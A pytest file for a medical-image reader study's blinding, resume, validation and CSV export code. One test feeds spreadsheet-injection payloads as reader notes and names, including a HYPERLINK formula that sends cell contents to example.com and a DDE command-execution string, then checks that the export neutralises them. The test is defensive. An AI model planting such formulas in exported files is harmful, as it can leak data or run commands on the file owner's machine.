"""Reader study storage and blinding: identical bytes layout for real and generated images,
opaque tokens, per-reader orders drawn from the study's secret, resume after an interruption,
CSV export. (A reader who has the source: test_reader_blinding.py.)"""

import csv
import io
import os
import random
import struct
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
from PIL import Image

from medart.reader_study import images as reader_images
from medart.reader_study import CSV_COLUMNS, ReaderStudies, order_seed
from medart.reader_study.store import keyed_seed
from medart.workspace import Workspace
from helpers import noise, planted_images

ROOT = Path(__file__).resolve().parents[1]


def png_chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    out, i = [], 8
    while i < len(data):
        (n,) = struct.unpack(">I", data[i : i + 4])
        kind, body = data[i + 4 : i + 8], data[i + 8 : i + 8 + n]
        assert struct.unpack(">I", data[i + 8 + n : i + 12 + n])[0] == zlib.crc32(kind + body)
        out.append((kind, body))
        i += 12 + n
    return out


def zlib_header(chunks) -> bytes:
    return b"".join(body for kind, body in chunks if kind == b"IDAT")[:2]


@pytest.fixture
def ws(tmp_path):
    w = Workspace(tmp_path / "ws")
    yield w
    w.close()


@pytest.fixture
def study(ws):
    store = ReaderStudies(ws)
    return store, store.add_study("pilot", planted_images(), seed=3, display_size=64)


def test_real_and_generated_bytes_carry_no_usable_difference(study):
    store, s = study
    with store._read() as c:
        rows = c.execute("SELECT token, truth, png FROM reader_study_items WHERE study_id = ?", (s.id,)).fetchall()
    real = [bytes(p) for _, t, p in rows if t == "real"]
    gen = [bytes(p) for _, t, p in rows if t == "generated"]
    assert len(real) == len(gen) == 4
    layouts = set()
    for data in real + gen:
        chunks = png_chunks(data)
        kinds = [k for k, _ in chunks]
        assert kinds[0] == b"IHDR" and kinds[-1] == b"IEND" and set(kinds) == {b"IHDR", b"IDAT", b"IEND"}
        # no metadata: no tEXt/zTXt/iTXt/eXIf/iCCP/gAMA/pHYs/tIME chunks, and no EXIF after decoding
        im = Image.open(io.BytesIO(data))
        assert im.format == "PNG" and im.size == (64, 64) and im.mode == "RGB"
        assert not im.info and not im.getexif()
        ihdr = chunks[0][1]  # width, height, bit depth, colour type, compression, filter, interlace
        layouts.add((len(data), tuple((k, len(b)) for k, b in chunks), ihdr, zlib_header(chunks)))
    # every image, noisy real JPEG or smooth generated, has the very same length, chunk layout,
    # header and zlib settings: only the pixels differ
    assert len(layouts) == 1
    # tokens are opaque: random hex of one length, not the label, the file name or the truth
    tokens = [t for t, _, _ in rows]
    assert len(set(tokens)) == 8 and {len(t) for t in tokens} == {24}
    for t in tokens:
        assert all(ch in "0123456789abcdef" for ch in t)
    # what the page embeds is a data: URI of exactly these bytes, under a token of its own
    shown = store.next_image(store.invite(s, "Ana").invitation)
    assert shown.png in {bytes(p) for _, _, p in rows} and shown.token not in tokens
    uri = reader_images.data_uri(shown.png)
    for word in ("real", "generated", "fundus", "histology", ".jpg", "seed"):
        assert word not in uri.split(",")[0]


def test_encoding_is_the_same_function_for_any_input():
    sizes = set()
    for image in (noise(1, (300, 200)), noise(2, (64, 64), smooth=True), noise(3, (50, 90), mode="L"),
                  noise(4, (128, 128), mode="RGBA"), noise(5, (40, 40), mode="P")):
        data = reader_images.encode(image, 48)
        im = Image.open(io.BytesIO(data))
        sizes.add((len(data), im.size, im.mode))
        assert not im.info
    assert sizes == {(len(reader_images.encode(noise(9, (48, 48)), 48)), (48, 48), "RGB")}
    with pytest.raises(ValueError, match="display size"):
        reader_images.encode(noise(1, (32, 32)), 4)


def test_row_ids_and_orders_do_not_follow_the_truth(study):
    store, s = study
    with store._read() as c:
        truths = [t for (t,) in c.execute("SELECT truth FROM reader_study_items WHERE study_id = ? ORDER BY id",
                                          (s.id,))]
    with store._read() as c:
        (secret,) = c.execute("SELECT secret FROM reader_studies WHERE id = ?", (s.id,)).fetchone()
    given = [im.truth for im in planted_images()]
    random.Random(keyed_seed(secret, "items")).shuffle(given)
    assert truths == given  # stored in an order drawn from the study's secret, not the one given
    a, b = store.invite(s, "Ana"), store.invite(s, "Ben")
    assert sorted(a.order) == sorted(b.order) and a.order != b.order
    assert a.order_seed == order_seed(secret, "Ana") != order_seed(secret, "Ben")
    # the order is fixed by the recorded seed, and the reader is the invitation's
    assert store.invited(a.invitation).order == a.order and len(store.readers(s)) == 2


KILLED_READER = """
import os, sys
from medart.reader_study import ReaderStudies
from medart.workspace import Workspace
store = ReaderStudies(Workspace(sys.argv[1]))
for i in range(4):
    shown = store.next_image(sys.argv[2])
    store.answer(sys.argv[2], shown.token, "real" if i % 2 else "generated", realism=i + 1, note=f"n{i}")
    print(shown.token, flush=True)
os._exit(9)  # the app dies half-way: no close, no clean-up
"""


def test_interrupted_study_resumes_at_the_next_unanswered_image(tmp_path):
    root = tmp_path / "ws"
    with Workspace(root) as ws:
        store = ReaderStudies(ws)
        store.add_study("resume", planted_images(), seed=1, display_size=32)
        link = store.invite("resume", "Ana").invitation
    proc = subprocess.run([sys.executable, "-c", KILLED_READER, str(root), link], capture_output=True, text=True,
                          cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120)
    assert proc.returncode == 9, proc.stderr
    seen = proc.stdout.split()
    assert len(seen) == 4

    ws2 = Workspace(root)
    store2 = ReaderStudies(ws2)
    reader = store2.invited(link)
    assert reader.answered == 4
    # a second Enter on an image already answered changes nothing and skips nothing
    assert store2.answer(link, seen[-1], "real") is False
    shown = store2.next_image(link)
    assert shown.position == 5 and shown.token not in seen
    with store2._read() as c:
        row = c.execute("SELECT token FROM reader_study_shown WHERE item_id = ?", (reader.order[4],)).fetchone()
    assert row[0] == shown.token  # the fifth image of this reader's recorded order
    rest = []
    while (shown := store2.next_image(link)) is not None:
        store2.answer(link, shown.token, "real")
        rest.append(shown.token)
    assert len(rest) == 4 and not set(rest) & set(seen)
    answers = store2.answers("resume")
    assert [a.position for a in answers] == list(range(1, 9))
    assert [a.note for a in answers[:4]] == ["n0", "n1", "n2", "n3"] and answers[2].realism == 3
    ws2.close()


def test_bad_input_says_what_to_do(study):
    store, s = study
    link = store.invite(s, "Ana").invitation
    shown = store.next_image(link)
    with pytest.raises(ValueError, match="key R"):
        store.answer(link, shown.token, "maybe")
    with pytest.raises(ValueError, match="from 1"):
        store.answer(link, shown.token, "real", realism=7)
    with pytest.raises(ValueError, match="not shown to you"):
        store.answer(link, "0" * 24, "real")
    with pytest.raises(ValueError, match="exists already"):
        store.add_study("pilot", planted_images(), display_size=32)
    with pytest.raises(ValueError, match="both real and generated"):
        store.add_study("only-real", [im for im in planted_images() if im.truth == "real"], display_size=32)
    with pytest.raises(ValueError, match="create one first"):
        store.study("nope")
    with pytest.raises(ValueError, match="name"):
        store.invite(s, "  ")
    assert store.answer(link, shown.token, "G", realism="4") is True  # keys and text accepted


def test_csv_export_has_every_answer(study, tmp_path):
    store, s = study
    for name, answer in (("Ana", "real"), ("Ben", "generated")):
        link = store.invite(s, name).invitation
        while (shown := store.next_image(link)) is not None:
            store.answer(link, shown.token, answer, realism=3, note="x, \"quoted\"")
    store.close(s)
    path = store.export_csv(s, tmp_path / "out" / "answers.csv")
    with open(path, newline="") as f:
        rows = list(csv.DictReader(f))
    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == 16
    assert {r["reader"] for r in rows} == {"Ana", "Ben"}
    ana = [r for r in rows if r["reader"] == "Ana"]
    assert sum(int(r["correct"]) for r in ana) == 4 and {r["truth"] for r in ana} == {"real", "generated"}
    assert rows[0]["note"] == 'x, "quoted"' and rows[0]["realism"] == "3"


def test_delete_removes_a_study_with_its_images_readers_and_answers(study):
    store, s = study
    link = store.invite(s, "Ana").invitation
    shown = store.next_image(link)
    store.answer(link, shown.token, "real")
    store.delete("pilot")
    assert store.studies() == []
    with store._read() as c:
        counts = [c.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in
                  ("reader_study_items", "reader_study_readers", "reader_study_shown", "reader_study_answers")]
    assert counts == [0, 0, 0, 0]
    with pytest.raises(ValueError, match="not a valid invitation"):
        store.answer(link, shown.token, "real")


def test_a_readers_formula_is_plain_text_in_the_owners_csv(study, tmp_path):
    """A reader types notes a spreadsheet would run; the owner's export holds them as text."""
    store, s = study
    notes = ['=HYPERLINK("http://example.com/?"&A1,"see")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1+1",
             "plain, fine", "a - b = c"]
    link = store.invite(s, "=cmd|' /C calc'!A0").invitation
    for note in notes:
        shown = store.next_image(link)
        store.answer(link, shown.token, "real", note=note)
    store.close(s)
    with open(store.export_csv(s, tmp_path / "answers.csv"), newline="") as f:
        rows = list(csv.DictReader(f))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    kept = [n.strip() for n in notes]  # (a note is stored without outer spaces)
    assert [r["note"] for r in rows] == ["'" + n if n[0] in "=+-@" else n for n in kept]
    assert {r["reader"] for r in rows} == {"'=cmd|' /C calc'!A0"}


def test_a_study_is_closed_before_its_truth_leaves(study, tmp_path):
    """While readers still answer, no export holds the truth or the seeds; closing ends the
    answers (a reader's link then opens nothing) and opens the export."""
    store, s = study
    link = store.invite(s, "Ana").invitation
    shown = store.next_image(link)
    store.answer(link, shown.token, "real", note="first")
    with pytest.raises(ValueError, match="still open.*reader-study close"):
        store.export_csv(s, tmp_path / "early.csv")
    assert not (tmp_path / "early.csv").exists() and not store.study("pilot").closed
    closed = store.close("pilot")
    assert closed.closed and closed.closed_at > 0
    next_shown = store.next_image  # a reader's page after the close: nothing more to see or answer
    for attempt in (lambda: next_shown(link), lambda: store.answer(link, shown.token, "generated"),
                    lambda: store.invite(s, "Ben")):
        with pytest.raises(ValueError, match="closed"):
            attempt()
    with pytest.raises(ValueError, match="closed already"):
        store.close("pilot")
    with open(store.export_csv(s, tmp_path / "answers.csv"), newline="") as f:
        rows = list(csv.DictReader(f))
    assert [(r["reader"], r["note"], r["answer"]) for r in rows] == [("Ana", "first", "real")]
    assert rows[0]["truth"] in ("real", "generated") and rows[0]["source"]
